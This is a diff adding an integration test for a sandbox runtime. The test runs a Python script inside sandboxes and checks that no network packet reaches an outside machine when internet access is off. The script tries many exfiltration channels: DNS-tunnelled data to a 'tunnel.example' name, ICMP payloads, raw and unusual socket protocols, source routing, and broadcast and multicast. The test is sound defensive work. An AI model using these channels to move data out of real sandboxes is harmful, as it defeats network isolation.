@@ -1,0 +1,129 @@
+import { execFileSync } from 'node:child_process';
+import { jest } from '@jest/globals';
+import type { SandboxPlace, SandboxSpec } from '../../runtime/driver.ts';
+import { LocalHost, nothing, onHost, shell } from '../runtime/local-host.ts';
+import { OutsideNetwork } from '../runtime/outside-network.ts';
+import { until } from '../support/until.ts';
+
+jest.setTimeout(60_000);
+
+/**
+ * A sandbox without internet access sends whatever could carry data out, to the resolver that it was told and to another
+ * machine. What arrives there is counted, packet by packet.
+ */
+const machine = '203.0.113.103';
+const machineIpv6 = '2001:db8::103';
+const kinds = ['tcp', 'udp', 'icmp', 'other', 'ipv6'] as const;
+const none = { tcp: 0, udp: 0, icmp: 0, other: 0, ipv6: 0 };
+let outside: OutsideNetwork;
+let host: LocalHost;
+
+beforeAll(async () => {
+  outside = new OutsideNetwork(101);
+  onHost('ip', 'route', 'add', machine, 'via', outside.far);
+  onHost('ip', '-n', outside.namespace, 'address', 'add', machine, 'dev', 'lo');
+  // What neighbours on a link tell each other is not a sandbox's.
+  const rules = `table inet arrived {
+    ${kinds.map((kind) => `counter from_${kind} {}`).join('\n')}
+    chain arriving {
+      type filter hook prerouting priority raw
+      iifname != "up" accept
+      icmpv6 type != echo-request accept
+      meta nfproto ipv6 counter name from_ipv6 accept
+      meta l4proto tcp counter name from_tcp accept
+      meta l4proto udp counter name from_udp accept
+      meta l4proto icmp counter name from_icmp accept
+      counter name from_other
+    }
+  }`;
+  execFileSync(...outside.command('nft', '-f', '-'), { input: rules });
+  host = await LocalHost.open({ dns: [outside.far], warmPoolSize: 1 });
+}, 180_000);
+
+afterAll(async () => {
+  await host.driver.close();
+  await host.driver.reconcile([]);
+  expect(await host.driver.inventory()).toMatchObject(nothing);
+  await host.close();
+  outside.remove();
+}, 60_000);
+
+/** Packets that arrived since it was last asked. */
+function arrived(): Record<(typeof kinds)[number], number> {
+  const [command, words] = outside.command('nft', '-j', 'reset', 'counters');
+  const { nftables } = JSON.parse(onHost(command, ...words));
+  const counters: { name: string; packets: number }[] = nftables.flatMap(
+    (each: { counter?: object }) => each.counter ?? [],
+  );
+  return { ...none, ...Object.fromEntries(counters.map(({ name, packets }) => [name.slice('from_'.length), packets])) };
+}
+
+/** Sends everything to everyone; prints how often it tried. */
+const sendAll = () => `import socket, struct
+data = b"what-nobody-may-learn"
+query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + bytes([len(data)]) + data + b"\\x06tunnel\\x07example\\0" + struct.pack(">2H", 16, 1)
+echo = struct.pack(">BBHHH", 8, 0, 0, 0, 1) + data
+tried = 0
+def attempt(family, kind, protocol, address, what, prepare=None, flags=0):
+  global tried
+  tried += 1
+  try:
+    with socket.socket(family, kind, protocol) as s:
+      s.settimeout(0.1)
+      if prepare: prepare(s)
+      if flags or kind == socket.SOCK_DGRAM: s.sendto(what, flags, address)
+      else:
+        s.connect(address)
+        s.sendall(what)
+  except OSError: pass
+gateway = socket.inet_aton("${host.driver.subnet.replace(/\d+\/\d+$/, '1')}")
+broadcast = lambda s: s.setsockopt(1, 6, 1)
+for to in ("${outside.far}", "${machine}"):
+  for port in (53, 80, 123, 443, 853, 5353):
+    attempt(2, 1, 0, (to, port), struct.pack(">H", len(query)) + query)
+    attempt(2, 2, 0, (to, port), query)
+  routed = b"\\x83\\x07\\x04" + socket.inet_aton(to) + b"\\0"
+  attempt(2, 2, 0, (socket.inet_ntoa(gateway), 53), query, lambda s: s.setsockopt(0, 4, routed))
+  attempt(2, 1, 0, (to, 443), data, flags=0x20000000)
+  attempt(2, 2, 1, (to, 0), echo)
+  for kind, protocol in ((2, 136), (1, 132), (5, 132), (6, 33), (1, 262)): attempt(2, kind, protocol, (to, 53), data)
+  attempt(10, 2, 0, ("::ffff:" + to, 53), query)
+  attempt(10, 1, 0, ("::ffff:" + to, 443), data)
+for to in ("${machineIpv6}", "ff02::1", "ff02::fb", "fe80::1"):
+  scope = socket.if_nametoindex("eth0") if to.startswith("f") else 0
+  for kind, protocol in ((1, 0), (2, 0), (2, 58)): attempt(10, kind, protocol, (to, 53, 0, scope), data)
+for to in ("255.255.255.255", "224.0.0.1", "224.0.0.251", "203.0.113.255"): attempt(2, 2, 0, (to, 5353), query, broadcast)
+tried += 1
+try: socket.getaddrinfo("what-nobody-may-learn.tunnel.example", 80)
+except OSError: pass
+print(tried)`;
+
+async function attack(place: SandboxPlace, spec: SandboxSpec): Promise<void> {
+  arrived();
+  const script = `cat > /tmp/send.py <<'END'\n${sendAll()}\nEND\nexport RES_OPTIONS='timeout:1 attempts:1'; python3 /tmp/send.py`;
+  expect(await shell(place, spec, script, 50)).toEqual({ exitCode: 0, output: '61' });
+}
+
+test('not one packet leaves without internet access, from the pool and after a start on its disk', async () => {
+  await until(() => host.driver.poolReady > 0, 60_000);
+  const spec = host.spec({ storageGb: 10 });
+  const place = await host.driver.create(spec);
+  expect(place.from).toBe('pool');
+  await attack(place, spec);
+  expect(arrived()).toEqual(none);
+  await host.driver.pause(spec.sandboxId);
+  await attack(await host.driver.resume(spec), spec);
+  expect(arrived()).toEqual(none);
+  await host.driver.stop(spec.sandboxId);
+  const again = await host.driver.resume(spec);
+  expect(again.from).toBe('cold');
+  await attack(again, spec);
+  expect(arrived()).toEqual(none);
+});
+
+test('what is sent to the internet by one that may reach it arrives, so what does not is seen', async () => {
+  const spec = host.spec({ allowInternetAccess: true });
+  await attack(await host.driver.create(spec), spec);
+  const { tcp, udp, icmp, ipv6 } = arrived();
+  expect([tcp > 5, udp > 5, icmp, ipv6]).toEqual([true, true, 1, 0]);
+});
